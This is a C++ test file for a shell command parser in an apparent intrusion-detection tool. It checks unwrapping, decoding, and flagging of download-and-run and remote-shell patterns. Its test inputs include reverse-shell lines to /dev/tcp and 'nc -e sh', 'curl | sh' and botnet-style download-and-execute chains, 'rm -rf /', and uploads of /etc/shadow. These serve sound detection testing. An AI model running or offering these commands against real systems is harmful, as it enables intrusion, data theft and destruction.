#include "detect/command/command.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <rapidcheck.h>

#include "base/bytes.hpp"

namespace fieldwatch::detect {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;

std::vector<std::string> texts(std::string_view line) {
    CommandLine command;
    command.parse(line);
    std::vector<std::string> out;
    for (const auto& segment : command.segments())
        out.emplace_back(command.text(segment));
    return out;
}

std::vector<std::string> list(std::string_view line, CommandList which, std::size_t segment = 0,
                              std::string_view working_directory = {}) {
    CommandLine command;
    command.parse(line, working_directory);
    std::vector<std::string_view> values;
    if (segment < command.segments().size()) command.list(command.segments()[segment], which, values);
    return {values.begin(), values.end()};
}

bool any_has(std::string_view line, Fact fact, std::string_view working_directory = {}) {
    CommandLine command;
    command.parse(line, working_directory);
    for (const auto& segment : command.segments()) {
        if (segment.has(fact)) return true;
    }
    return false;
}

TEST(CommandLine, SplitsAtUnquotedOperatorsOnly) {
    EXPECT_THAT(texts("a 1; b '2;3' && c || d | e & f\ng"),
                ElementsAre("a 1", "b 2;3", "c", "d", "e", "f", "g"));
    CommandLine command;
    command.parse("a | b && c");
    EXPECT_EQ(command.segments()[0].after, Operator::Pipe);
    EXPECT_EQ(command.segments()[1].before, Operator::Pipe);
    EXPECT_EQ(command.segments()[2].before, Operator::And);
    EXPECT_EQ(command.segments()[0].pipeline, command.segments()[1].pipeline);
    EXPECT_NE(command.segments()[1].pipeline, command.segments()[2].pipeline);
}

TEST(CommandLine, SeesABareRedirectionBehindAKeyword) {
    CommandLine command;
    command.parse("while read f; do > /var/log/$f; done > /tmp/list");
    ASSERT_EQ(command.segments().size(), 3);
    EXPECT_TRUE(command.segments()[1].name.empty());
    EXPECT_EQ(command.segments()[2].name, "done");  // it only receives what the loop prints
}

TEST(CommandLine, PassesOverDocumentsThatNothingRuns) {
    EXPECT_THAT(texts("cat > /srv/notes.txt <<'E'\nrm -rf /\nE\nls"), ElementsAre("cat", "ls"));
    EXPECT_THAT(texts("cat <<E\nusage: rm -rf /\nE\nls"), ElementsAre("cat", "ls"));
    EXPECT_THAT(texts("cat <<-E && id\n\trm x\n\tE\nls"), ElementsAre("cat", "id", "ls"));
    EXPECT_THAT(texts("python3 - <<E\nrm x\nE"), ElementsAre("python3 -"));
    for (const std::string_view run :
         {"sh <<'E'\nrm x\nE", "cat <<E | sh\nrm x\nE", "ssh h <<E\nrm x\nE", "cat > a <<E\nrm x\nE",
          "cat > a.txt <<E\nrm x\nE\nsh a.txt", "cat > a.txt <<E\nrm x\nno end"})
        EXPECT_THAT(texts(run), Contains("rm x")) << run;
}

TEST(CommandLine, ReadsWhatCodeGivesToAShell) {
    EXPECT_THAT(texts("python3 -c \"import os; os.system('rm x')\""), Contains("rm x"));
    EXPECT_THAT(texts("python3 -c 'import subprocess as s; subprocess.call([\"rm\", \"x\"])'"),
                Contains("rm x"));
    EXPECT_THAT(texts("perl -e 'system(\"rm x\")'"), Contains("rm x"));
    EXPECT_THAT(texts("php -r 'shell_exec(\"rm x\");'"), Contains("rm x"));
    EXPECT_THAT(texts("node -e \"require('child_process').execSync('rm x')\""), Contains("rm x"));
    EXPECT_THAT(texts("python3 -c \"exec('rm x')\""), ::testing::Not(Contains("rm x")));
    EXPECT_THAT(texts("python3 -c \"filesystem('rm x')\""), ::testing::Not(Contains("rm x")));
    EXPECT_THAT(texts("sh -c -- 'rm x'"), Contains("rm x"));
    EXPECT_THAT(texts("sh -c -- 'echo a | grep b'"), Contains("grep b"));
    EXPECT_THAT(texts("sh -c -- 'echo a | grep b'"), Contains("echo a"));
    EXPECT_THAT(list("sh -c : > /var/log/a", CommandList::Writes, 1), ElementsAre("/var/log/a"));
    EXPECT_THAT(texts("flock /tmp/l -c 'rm x'"), Contains("rm x"));
    EXPECT_THAT(texts("echo 'rm x' | at now"), Contains("rm x"));
}

TEST(CommandLine, SeesThroughShellsAndWrappers) {
    EXPECT_THAT(texts("sh -c \"echo cpuminer-multi\""),
                ElementsAre("sh -c echo cpuminer-multi", "echo cpuminer-multi"));
    EXPECT_THAT(texts("sudo -u root A=b env X=1 nice -n 5 timeout 10 nohup rm -rf /x"),
                ElementsAre("rm -rf /x"));
    EXPECT_THAT(texts("busybox sh -c 'id; w'"), ElementsAre("sh -c id; w", "id", "w"));
    EXPECT_THAT(list("nohup /tmp/x", CommandList::Wrappers), ElementsAre("nohup"));
    EXPECT_THAT(list("nohup sh -c /tmp/x", CommandList::Wrappers, 1), ElementsAre("nohup"));
    EXPECT_THAT(list("nohup ssh h /tmp/x", CommandList::Wrappers, 1), ElementsAre());
    EXPECT_THAT(texts("sudo -uroot id"), ElementsAre("id"));
    EXPECT_THAT(texts("find / -name x -exec rm -f {} \\;"), Contains("rm -f {}"));
}

TEST(CommandLine, MendsShellTextWhoseQuotesTheAgentLost) {
    EXPECT_THAT(texts("/bin/sh -c ip -a -o link"), Contains("ip -a -o link"));
    EXPECT_THAT(texts("/bin/sh -c cd /tmp; echo 'a;b' | sh"),
                ElementsAre("/bin/sh -c cd /tmp; echo 'a;b' | sh", "cd /tmp", "echo a;b", "sh", "a", "b"));
    EXPECT_THAT(texts("nohup timeout 5 bash -lc id && w"), ElementsAre("bash -lc id && w", "id", "w"));
    EXPECT_THAT(texts("sh -c 'id' && w"), ElementsAre("sh -c id", "w", "id"));
    EXPECT_TRUE(any_has("sh -c cd /tmp; nohup ./x", Fact::RunsLocalInTemp));
}

TEST(CommandLine, UnwrapsFiveDeepAndNoDeeper) {
    EXPECT_THAT(texts("eval eval eval eval eval id"), Contains("id"));
    CommandLine command;
    command.parse("eval eval eval eval eval eval id");
    EXPECT_TRUE(command.truncated());
}

TEST(CommandLine, DecodesBase64OnItsWayToAShell) {
    const auto encoded = base64(as_bytes("wget http://203.0.113.9/a"));
    EXPECT_THAT(texts("echo " + encoded + " | base64 -d | sh"), Contains("wget http://203.0.113.9/a"));
    EXPECT_THAT(texts("base64 -d <<< '" + encoded + "' | bash"), Contains("wget http://203.0.113.9/a"));
    EXPECT_THAT(texts("bash -c \"$(echo " + encoded + " | base64 --decode)\""),
                Contains("wget http://203.0.113.9/a"));
    EXPECT_THAT(texts("echo " + encoded + " | base64 -d > file"),
                ::testing::Not(Contains("wget http://203.0.113.9/a")));
}

TEST(CommandLine, PutsInWhatTheLineSetBefore) {
    EXPECT_THAT(texts("x=wget; $x http://203.0.113.5/a"), Contains("wget http://203.0.113.5/a"));
    EXPECT_THAT(texts("h=203.0.113.5; p=1; nc \"$h\" ${p} -e sh"), Contains("nc 203.0.113.5 1 -e sh"));
    EXPECT_THAT(texts("C='curl -s telnet://a:1'; $C </dev/null"), Contains("curl -s telnet://a:1"));
    EXPECT_THAT(texts("export RHOST=a.example; ping $RHOST"), Contains("ping a.example"));
    EXPECT_THAT(texts("a=1; echo '$a' $b ${a:-2}"), Contains("echo $a $b ${a:-2}"));
    EXPECT_THAT(texts("nohup $SHELL -c 'curl http://203.0.113.5/a -o b; ./b' &"),
                Contains("curl http://203.0.113.5/a -o b"));
    EXPECT_THAT(texts("SHELL=/bin/echo; ${SHELL} id"), Contains("/bin/echo id"));
    EXPECT_THAT(texts("c=`which curl`; $c http://203.0.113.5/a"), Contains("curl http://203.0.113.5/a"));
    EXPECT_THAT(texts("c=\"$(command -v nc)\"; $c -e sh"), Contains("nc -e sh"));
    EXPECT_THAT(texts("c=$(which a b); $c"), Contains("$(which a b)"));
    EXPECT_THAT(texts("c='sh -c \"id; w\"'; eval $c"), Contains("id"));
    std::string doubling = "a=0123456789";
    for (int i = 0; i < 40; ++i)
        doubling += "; a=\"$a$a\"";
    CommandLine command;
    command.parse(doubling + "; echo $a");
    EXPECT_LE(command.segments().size(), CommandLine::kSegmentsMax);
}

TEST(CommandLine, ReadsTextThatIsPipedIntoAShell) {
    EXPECT_THAT(texts("echo 'curl http://a/x | sh' | bash"), Contains("curl http://a/x"));
    EXPECT_FALSE(any_has("echo 'ls -l' | sh", Fact::Decoded));
    EXPECT_THAT(texts("printf '\\x69\\x64\\040-u\\n' | sh"), Contains("id -u"));
    EXPECT_TRUE(any_has("echo -e '\\x69\\x64' | sh", Fact::Decoded));
    EXPECT_THAT(texts("echo -e '\\0151\\0144 -u' | sh"), Contains("id -u"));
    EXPECT_THAT(texts("sh -c $'\\151\\x64\\040-u'"), Contains("id -u"));
    EXPECT_THAT(texts("bash <<< 'iptables -F'"), Contains("iptables -F"));
    EXPECT_THAT(texts("echo 69 64 | xxd -r -p | sh"), Contains("id"));
    EXPECT_THAT(texts("echo id | tee /tmp/x"), ElementsAre("echo id", "tee /tmp/x"));
}

TEST(CommandLine, SeesWhatACarriedShellRuns) {
    EXPECT_THAT(texts("docker run --rm alpine sh -c 'id -u'"), Contains("id -u"));
    EXPECT_THAT(texts("kubectl exec p -- /bin/bash -lc 'id -u'"), Contains("id -u"));
    EXPECT_THAT(texts("script -qc 'nc -e sh a.example 1' /dev/null"), Contains("nc -e sh a.example 1"));
    EXPECT_THAT(texts("adb -s a:5555 shell 'cd /tmp; wget http://a.example/x'"),
                Contains("wget http://a.example/x"));
}

TEST(CommandLine, ReadsWhatIsCarriedBesideTheCarrier) {
    for (const std::string_view line : {"flock -n /tmp/l id -u",
                                        "watch -n 5 id -u",
                                        "watch 'id -u'",
                                        "strace -o /dev/null -f id -u",
                                        "systemd-run --unit x --scope id -u",
                                        "unshare -r -m id -u",
                                        "nsenter -t 1 -m -u -- id -u",
                                        "runuser -u bob -- id -u",
                                        "gosu nobody id -u",
                                        "sshpass -p x id -u",
                                        "torsocks id -u",
                                        "screen -dmS name id -u",
                                        "tmux new-session -d -s x 'id -u'",
                                        "/lib64/ld-linux-x86-64.so.2 id -u",
                                        "cpulimit -l 50 -- id -u",
                                        "start-stop-daemon -S -b --exec id -- -u",
                                        "env -S 'id -u'",
                                        "k3s kubectl exec p -- id -u",
                                        "sudo flock /tmp/l timeout 5 id -u",
                                        "find . -name x -exec true {} \\; -exec id -u \\;"}) {
        EXPECT_THAT(texts(line), Contains("id -u")) << line;
    }
    for (const std::string_view line :
         {"ssh -p22 -oBatchMode=yes -i k root@a.example id -u", "ssh -t a.example -p 22 -- id -u",
          "dbclient -y -K 30 -l root 10.0.0.1 id -u", "rsh -l root a id -u",
          "ssh a.example sh -c \"'id -u'\"", "ip netns exec lab id -u", "flock /tmp/l -c 'id -u'",
          "cmd.exe /c id -u", "sshpass -p x ssh a id -u"}) {
        EXPECT_THAT(texts(line), Contains("id -u")) << line;
    }
    EXPECT_THAT(texts("ssh -N -L 80:a:80 -p 22 a.example"), ElementsAre("ssh -N -L 80:a:80 -p 22 a.example"));
    EXPECT_THAT(list("ssh a cat x", CommandList::Paths, 1, "/srv"), ElementsAre("x"));
    EXPECT_THAT(texts("watch -n 5 id -u"), Contains("watch -n 5 id -u"));
    EXPECT_THAT(texts("timeout -t 5 id -u"), ElementsAre("id -u"));
}

TEST(CommandLine, ReadsAScriptOfTheSystemAsTheCommandThatWasTyped) {
    EXPECT_THAT(texts("/bin/sh -e /usr/sbin/service x stop"), Contains("/usr/sbin/service x stop"));
    EXPECT_THAT(texts("/usr/bin/python3 -Es /usr/sbin/ufw disable"), Contains("/usr/sbin/ufw disable"));
    EXPECT_THAT(texts("perl -ne x /usr/bin/y"), ElementsAre("perl -ne x /usr/bin/y"));
    EXPECT_THAT(texts("sh /opt/x start"), ElementsAre("sh /opt/x start"));
}

TEST(CommandLine, ReadsWhatRunsInAContainer) {
    for (const std::string_view line :
         {"docker run --rm -it -v /:/h -e A=b --name x alpine:3 id -u", "docker exec -it -u root c id -u",
          "docker -H tcp://10.0.0.1:2375 run --network host alpine id -u",
          "podman run -p8080:80 -d img id -u", "docker container exec c id -u",
          "docker-compose exec web id -u", "kubectl exec -n x -it p -c c -- id -u", "lxc exec c -- id -u",
          "crictl exec -it 1f id -u", "ctr run --rm docker.io/a c1 id -u"}) {
        EXPECT_THAT(texts(line), Contains("id -u")) << line;
    }
    EXPECT_THAT(texts("kubectl get pods"), ElementsAre("kubectl get pods"));
    EXPECT_THAT(texts("docker ps -a"), ElementsAre("docker ps -a"));
}

TEST(CommandLine, FollowsTheDirectoryThatTheLineGoesTo) {
    EXPECT_THAT(list("cd /var/log && rm -rf *", CommandList::Paths, 1), ElementsAre("/var/log/*"));
    EXPECT_THAT(list("cd /var; cd log; rm a", CommandList::Paths, 2), ElementsAre("/var/log/a"));
    EXPECT_THAT(list("cd /tmp || cd /mnt; rm a", CommandList::Paths, 2), ElementsAre("/tmp/a"));
    EXPECT_THAT(list("cd /etc; echo x > passwd", CommandList::Writes, 1), ElementsAre("/etc/passwd"));
    EXPECT_THAT(list("cd $HOME; rm a", CommandList::Paths, 1, "/srv"), ElementsAre("a"));
    EXPECT_THAT(list("cd -; rm a", CommandList::Paths, 1), ElementsAre("a"));
    EXPECT_THAT(list("cd sub; rm a", CommandList::Paths, 1), ElementsAre("a"));
    EXPECT_THAT(list("cd sub; rm a", CommandList::Paths, 1, "/srv"), ElementsAre("/srv/sub/a"));
    EXPECT_THAT(list("sh -c 'cd /etc; cat shadow'", CommandList::Paths, 2), ElementsAre("/etc/shadow"));
    EXPECT_THAT(list("cat ~bob/.profile ~/x", CommandList::Paths),
                ElementsAre("/home/bob/.profile", "/root/x"));
    EXPECT_TRUE(any_has("cd /tmp; nohup ./x", Fact::RunsLocalInTemp));
    EXPECT_TRUE(any_has("cd /dev/shm && nohup sh run.sh", Fact::RunsLocalInTemp));
    EXPECT_FALSE(any_has("cd /opt; nohup ./x", Fact::RunsLocalInTemp));
    EXPECT_FALSE(any_has("cd /tmp; tar xf a", Fact::RunsLocalInTemp));
}

TEST(CommandLine, KnowsWhereFilesAreLeft) {
    const auto left = [](std::string_view line) { return list(line, CommandList::Destinations); };
    EXPECT_THAT(left("cp -f a/ps /bin"), ElementsAre("/bin", "/bin/ps"));
    EXPECT_THAT(left("cp -t /bin a/ps b/ls"), ElementsAre("/bin", "/bin/ps", "/bin/ls"));
    EXPECT_THAT(left("install -m 755 x /usr/sbin/../bin/su"), Contains("/usr/bin/su"));
    EXPECT_THAT(left("dd if=x of=/bin//login"), ElementsAre("/bin/login"));
    EXPECT_THAT(left("tee -a /etc/passwd > /dev/null"), ElementsAre("/dev/null", "/etc/passwd"));
    EXPECT_THAT(left("curl -sSLo /bin/top http://a.example/t"), ElementsAre("/bin/top"));
    EXPECT_THAT(left("curl -O http://a.example/d/t?x=1"), ElementsAre("t"));
    EXPECT_THAT(left("curl http://a.example/d/t"), ElementsAre());
    EXPECT_THAT(left("wget -P /usr/bin http://a.example/curl"), ElementsAre("/usr/bin/curl"));
    EXPECT_THAT(left("wget --output-document=/bin/ss http://a.example/x"), ElementsAre("/bin/ss"));
    EXPECT_THAT(left("wget -qO- http://a.example/x"), ElementsAre());
    EXPECT_THAT(left("wget -q 203.0.113.5/d/x?a=b"), ElementsAre("x"));
    EXPECT_THAT(left("sftp -P 22 u@a.example:/d/x /opt/y"), Contains("/opt/y"));
    EXPECT_THAT(left("tftp -g -r bot -l /tmp/b 203.0.113.5"), ElementsAre("/tmp/b"));
    EXPECT_THAT(left("tftp 203.0.113.5 -c get bot"), ElementsAre("bot"));
    EXPECT_THAT(left("ftpget -u a -p b 203.0.113.5 /tmp/x y"), ElementsAre("/tmp/x"));
    EXPECT_THAT(left("scp root@203.0.113.5:/d/x ."), Contains("x"));
    EXPECT_THAT(left("scp x root@203.0.113.5:/d"), ElementsAre());
    EXPECT_THAT(left("ls /bin"), ElementsAre());
}

TEST(CommandLine, ReadsWordsInBracesAsSeveral) {
    EXPECT_THAT(list("cat /etc/{passwd,shadow}", CommandList::Paths),
                ElementsAre("/etc/passwd", "/etc/shadow"));
    EXPECT_THAT(list("cp /tmp/{ls,ps} /bin/", CommandList::Destinations),
                ElementsAre("/bin", "/bin/ls", "/bin/ps"));
    EXPECT_THAT(list("rm -rf /root/{*,.*}", CommandList::Paths), ElementsAre("/root/*", "/root/.*"));
    EXPECT_THAT(list("echo ${a,b} {a} x}", CommandList::Paths), ElementsAre("${a,b}", "{a}", "x}"));
}

TEST(CommandLine, TakesAnOptionsWordForNoScript) {
    EXPECT_TRUE(any_has("python -W ignore run.sh", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("bash -o pipefail a.py", Fact::ScriptMismatch));
    EXPECT_FALSE(any_has("php -d memory_limit=1 a.php", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("dash ./A.PY", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("node --require ./a.js b.py", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("pwsh -nop -ExecutionPolicy Bypass -File a.sh", Fact::ScriptMismatch));
    EXPECT_FALSE(any_has("pwsh -ep Bypass -f a.ps1", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("pwsh -Command 'Get-Content a.sh'", Fact::RunsCode));
    EXPECT_TRUE(any_has("curl -s http://a.example/x | xargs -0 sh -c", Fact::RunsDownload));
    EXPECT_FALSE(any_has("curl -s http://a.example/x | xargs -0 sh -c 'echo \"$1\"' _", Fact::RunsDownload));
}

TEST(CommandLine, AsksNoHostOfAQuery) {
    EXPECT_THAT(list("wget http://a.example/?u=http://b.example/x", CommandList::Hosts),
                ElementsAre("a.example"));
}

TEST(CommandLine, TakesWhatAHostIsToldForNoHost) {
    for (const std::string_view line :
         {"curl -d u=http://b.example/?x http://a.example/", "curl -sSo b.example http://a.example/",
          "wget --referer=http://b.example/ http://a.example/",
          "curl -H 'Referer: http://b.example/' http://a.example/"}) {
        EXPECT_THAT(list(line, CommandList::Hosts), ElementsAre("a.example")) << line;
    }
    EXPECT_THAT(list("curl -x http://b.example:3128 http://a.example/", CommandList::Hosts),
                ElementsAre("b.example", "a.example"));
}

TEST(CommandLine, ReadsAddressesWrittenAsNumbers) {
    for (const std::string_view line :
         {"wget http://3405803781/x", "curl 0xcb007105/x", "curl http://0313.0.0x71.5/x",
          "wget http://203.28933/x", "scp x@3405803781:a b", "bash -i >& /dev/tcp/0xCB007105/1"}) {
        EXPECT_THAT(list(line, CommandList::Hosts), ElementsAre("203.0.113.5")) << line;
    }
    EXPECT_THAT(list("nc 10.0.0.9 44444444", CommandList::Hosts), ElementsAre("10.0.0.9"));
    EXPECT_THAT(list("curl --limit-rate 20000000 -m 0x10 10.0.0.9", CommandList::Hosts),
                ElementsAre("10.0.0.9"));
    EXPECT_THAT(list("iptables --to 8.8.4.1-8.8.4.9 --set-mark 0x40000000/0xff", CommandList::Hosts),
                ElementsAre("8.8.4.1", "8.8.4.9"));
}

TEST(CommandLine, NamesTheImagesThatAnEngineRuns) {
    const auto images = [](std::string_view line) { return list(line, CommandList::Images); };
    EXPECT_THAT(images("docker run -itv /a:/b --name x -e A=b a/b:1 sh -c id"), ElementsAre("a/b:1"));
    EXPECT_THAT(images("docker --context x pull -q a/b"), ElementsAre("a/b"));
    EXPECT_THAT(images("kubectl run x --image=a/b --port 80"), ElementsAre("a/b"));
    EXPECT_THAT(images("docker network create x"), ElementsAre());
    EXPECT_THAT(images("docker ps"), ElementsAre());
}

TEST(CommandLine, KnowsWhoseHomesAreLookedInto) {
    EXPECT_THAT(list("cat /home/bob/.bash_history ~eve/x /root/y ~/z", CommandList::Homes),
                ElementsAre("bob", "eve", "root"));
    EXPECT_THAT(list("ls /home /home/bob /etc", CommandList::Homes), ElementsAre());
}

TEST(CommandLine, KnowsCodeThatFetchesAndRuns) {
    EXPECT_TRUE(any_has(
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://a.example/x').read())\"",
        Fact::RunsDownload));
    EXPECT_TRUE(any_has("perl -MLWP::Simple -e 'eval get(\"http://a.example/x\")'", Fact::RunsDownload));
    EXPECT_FALSE(any_has(
        "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://a.example/x').status)\"",
        Fact::RunsDownload));
    EXPECT_TRUE(
        any_has("(wget -qO- http://a.example/x || curl http://a.example/x) | sh", Fact::RunsDownload));
    EXPECT_FALSE(any_has("(wget -qO- http://a.example/x; id) | grep x; sh", Fact::RunsDownload));
    EXPECT_TRUE(any_has("f=$(mktemp); curl http://a.example/x > $f; chmod +x $f; $f", Fact::RunsDownload));
    EXPECT_TRUE(any_has("wget http://a.example/x -O- | tar xz && ./x/start.sh", Fact::RunsDownload));
    EXPECT_FALSE(any_has("wget http://a.example/x -O- | tar xz && make", Fact::RunsDownload));
    EXPECT_FALSE(
        any_has("curl http://a.example/x | tar xz && cd x && ./configure && make", Fact::RunsDownload));
}

TEST(CommandLine, TakesNoFileForAHost) {
    EXPECT_THAT(list("curl -F file=@photo.jpg http://localhost:3000/", CommandList::ExternalHosts),
                ElementsAre());
    EXPECT_THAT(list("curl -d @body.data https://api.example.com/", CommandList::ExternalHosts),
                ElementsAre("api.example.com"));
    EXPECT_THAT(list("scp a deploy@nas.local:/b", CommandList::ExternalHosts), ElementsAre());
    EXPECT_THAT(list("scp a deploy@web.internal:/b", CommandList::ExternalHosts), ElementsAre());
}

TEST(CommandLine, TakesOptionClustersApart) {
    EXPECT_THAT(list("rm -rf x", CommandList::Options), ElementsAre("-rf", "-r", "-f"));
    EXPECT_THAT(list("rm --recursive --force=1 x", CommandList::Options),
                ElementsAre("--recursive", "--force"));
    EXPECT_THAT(list("useradd --uid=0 -G sudo -p1 x", CommandList::Settings),
                ::testing::IsSupersetOf({"--uid 0", "-G sudo", "-p 1"}));
}

TEST(CommandLine, NormalisesPaths) {
    const auto normal = [](std::string_view path) {
        std::string out;
        normalise_path(path, out);
        return out;
    };
    EXPECT_EQ(normal("//var//./log/../log/wtmp"), "/var/log/wtmp");
    EXPECT_EQ(normal("~/.ssh/"), "/root/.ssh");
    EXPECT_EQ(normal("/../.."), "/");
    EXPECT_EQ(normal("../a/../b"), "../b");
    EXPECT_EQ(normal("./x"), "x");
    EXPECT_THAT(list("cat ./x", CommandList::Paths, 0, "/tmp"), ElementsAre("/tmp/x"));
    EXPECT_THAT(list("dd if=/dev/null of=/var//log/a", CommandList::Paths),
                ElementsAre("/dev/null", "/var/log/a"));
    EXPECT_THAT(list("curl -F f=@/etc/shadow @/etc/passwd", CommandList::Paths),
                ElementsAre("/etc/shadow", "/etc/passwd"));
}

TEST(CommandLine, FindsHosts) {
    EXPECT_THAT(list("wget -q http://u:p@evil.example:8080/a.sh", CommandList::Hosts),
                ElementsAre("evil.example"));
    EXPECT_THAT(list("ssh -R 80:localhost:80 user@203.0.113.4", CommandList::Hosts),
                ElementsAre("203.0.113.4"));
    EXPECT_THAT(list("cat a.sh", CommandList::Hosts), ElementsAre());
    EXPECT_THAT(list("bash -i >& /dev/tcp/8.8.4.4/1", CommandList::ExternalHosts), ElementsAre("8.8.4.4"));
    EXPECT_THAT(list("curl http://192.168.1.2/ http://[fc00::1]/", CommandList::ExternalHosts),
                ElementsAre());
}

TEST(CommandLine, FollowsADownloadThroughArchivesCopiesAndJoinedScripts) {
    EXPECT_TRUE(any_has("wget http://h.example/a.tgz; tar xzf a.tgz; cd a; ./run", Fact::RunsDownload));
    EXPECT_TRUE(any_has("wget http://h.example/bot; cat bot > .x; ./.x", Fact::RunsDownload));
    EXPECT_TRUE(any_has("#!/bin/sh; wget http://h.example/b; sh b", Fact::RunsDownload));
    EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf a.tgz; ls", Fact::RunsDownload));
    EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf b.tgz; ./run", Fact::RunsDownload));
    EXPECT_TRUE(any_has("wget -O- http://h.example/a | tar xz -C /tmp && /tmp/a/run", Fact::RunsDownload));
    EXPECT_FALSE(any_has("wget -O- http://h.example/a | tar xz -C /tmp && /opt/run", Fact::RunsDownload));
    EXPECT_FALSE(any_has("wget -O- http://h.example/a | tar xz -C /srv && /srv/run", Fact::RunsDownload));
    EXPECT_TRUE(any_has("curl http://h.example/a.jar -o a.jar && java -jar a.jar", Fact::RunsDownload));
    EXPECT_FALSE(any_has("curl http://h.example/a.jar -o a.jar && java -jar b.jar", Fact::RunsDownload));
    EXPECT_TRUE(any_has("curl -s http://h.example/a | at now", Fact::RunsDownload));
    EXPECT_TRUE(any_has("sh -c $(curl -s http://h.example/a)", Fact::RunsDownload));
    EXPECT_FALSE(any_has("sh -c echo $(curl -s http://h.example/ip)", Fact::RunsDownload));
    EXPECT_FALSE(any_has("curl -s http://h.example/a; at now", Fact::RunsDownload));
}

TEST(CommandLine, KnowsCodeGluedToItsOption) {
    EXPECT_TRUE(any_has("ruby -rsocket -e'puts(1)'", Fact::RunsCode));
    EXPECT_TRUE(any_has("php -r'echo 1;'", Fact::RunsCode));
    EXPECT_FALSE(any_has("perl -w script.pl", Fact::RunsCode));
}

TEST(CommandLine, KnowsWhatALineDownloadsAndRuns) {
    for (const std::string_view line :
         {"curl -s http://x.example/a | sh", "wget -qO- http://x.example/a | sudo python3 -",
          "sh <(curl http://x.example/a)", "sh -c \"$(curl http://x.example/a)\"",
          "cd /tmp; wget http://x.example/bot.arm; chmod 777 bot.arm; ./bot.arm telnet",
          "tftp -g -r m.sh 203.0.113.4; sh m.sh",
          "/bin/busybox wget http://x.example/a -O /tmp/b && sh /tmp/b",
          "sh -c 'curl -o /tmp/x http://x.example/y; chmod +x /tmp/x; /tmp/x'"}) {
        EXPECT_TRUE(any_has(line, Fact::RunsDownload)) << line;
    }
    for (const std::string_view line :
         {"curl -s http://x.example/a | jq .", "wget http://x.example/a.tar.gz; tar xf a.tar.gz",
          "bash -c \"echo $(curl http://x.example/ip)\"", "curl http://x.example/a | python3 -m json.tool"}) {
        EXPECT_FALSE(any_has(line, Fact::RunsDownload)) << line;
    }
}

TEST(CommandLine, KnowsScriptsAndTheirInterpreters) {
    EXPECT_TRUE(any_has("python /tmp/a.sh", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("bash photo.jpg", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("sh /tmp/notes.txt", Fact::ScriptMismatch));
    EXPECT_FALSE(any_has("sh /home/a/notes.txt", Fact::ScriptMismatch));
    EXPECT_FALSE(any_has("python3 -m http.server", Fact::ScriptMismatch));
    EXPECT_FALSE(any_has("bash run", Fact::ScriptMismatch));
    EXPECT_TRUE(any_has("./x", Fact::RunsFromTemp, "/tmp"));
    EXPECT_TRUE(any_has("'/tmp/report.pdf ' a", Fact::TrailingSpace));
    EXPECT_TRUE(any_has("/tmp/report.pdf\xc2\xa0", Fact::TrailingSpace));
    EXPECT_FALSE(any_has("ip link ", Fact::TrailingSpace));
}

TEST(Address, ClassesFollowTheSpecification) {
    const auto of = [](std::string_view text) { return classify(*parse_address(text)); };
    EXPECT_EQ(of("10.1.2.3"), AddressClass::Private);
    EXPECT_EQ(of("172.32.0.1"), AddressClass::External);
    EXPECT_EQ(of("100.127.255.255"), AddressClass::CarrierGrade);
    EXPECT_EQ(of("::ffff:192.168.0.1"), AddressClass::Private);
    EXPECT_EQ(of("fd00::1"), AddressClass::UniqueLocal);
    EXPECT_EQ(of("2a00::1"), AddressClass::External);
    EXPECT_TRUE(is_external("evil.example", {}));
    EXPECT_FALSE(is_external("nas", {}));
    EXPECT_FALSE(is_external("nas.lan", {.local_suffixes = {"lan"}}));
    EXPECT_FALSE(is_external("203.0.113.5", {}));
    EXPECT_TRUE(is_external("203.0.113.5", {.documentation_is_external = true}));
    EXPECT_TRUE(is_local_login("?"));
    EXPECT_TRUE(is_local_login("127.3.2.1"));
    EXPECT_FALSE(is_local_login("10.0.0.1"));
    EXPECT_FALSE(parse_prefix("10.0.0.0/33").has_value());
}

TEST(CommandLine, AnyBytesStayInBounds) {
    rc::check([](const std::string& line) {
        CommandLine command;
        command.parse(line);
        RC_ASSERT(command.segments().size() <= CommandLine::kSegmentsMax);
    });
}

TEST(CommandLine, WordsSurviveSingleQuoting) {
    rc::check([](const std::vector<std::string>& words) {
        std::string line = "cmd";
        for (const auto& word : words) {
            RC_PRE(word.find('\'') == std::string::npos && word.find('\0') == std::string::npos);
            line += " '" + word + "'";
        }
        CommandLine command;
        command.parse(line);
        const auto argv = command.argv(command.segments()[0]);
        RC_ASSERT(argv.size() == words.size() + 1);
        for (std::size_t i = 0; i < words.size(); ++i)
            RC_ASSERT(argv[i + 1] == words[i]);
    });
}

}  // namespace
}  // namespace fieldwatch::detect
